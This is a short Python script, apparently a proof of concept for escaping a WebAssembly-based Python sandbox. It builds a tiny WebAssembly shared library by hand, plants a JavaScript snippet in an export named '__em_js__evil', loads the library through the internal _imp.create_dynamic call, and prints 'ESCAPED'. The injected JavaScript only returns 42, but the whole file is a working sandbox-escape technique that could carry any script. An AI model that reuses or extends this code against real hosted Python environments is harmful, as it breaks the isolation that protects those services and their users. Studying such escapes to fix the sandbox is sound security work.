# a WebAssembly library with JavaScript in it
import _imp, importlib.machinery, sys
def leb(n):
    out = b''
    while True:
        n, low = n >> 7, n & 127
        out += bytes([low | (128 if n else 0)])
        if not n:
            return out
def section(kind, body):
    return bytes([kind]) + leb(len(body)) + body
def text(s):
    return leb(len(s)) + s
js = b"()<::>{ return 42 }\0"
lib = b'\0asm\1\0\0\0' + section(0, text(b'dylink.0') + bytes([1, 4]) + leb(64) + b'\4\0\0')
lib += section(1, leb(1) + b'\x60\0\1\x7f') + section(2, leb(1) + text(b'env') + text(b'memory') + b'\2\0\1')
lib += section(3, leb(1) + leb(0)) + section(6, leb(1) + b'\x7f\0\x41\0\x0b')
lib += section(7, leb(2) + text(b'PyInit_x') + b'\0\0' + text(b'__em_js__evil') + b'\3\0')
lib += section(10, leb(1) + leb(4) + b'\0\x41\0\x0b')
open('/tmp/x.so', 'wb').write(lib)
module = _imp.create_dynamic(importlib.machinery.ModuleSpec('x', None, origin='/tmp/x.so'))
print('ESCAPED:', module)
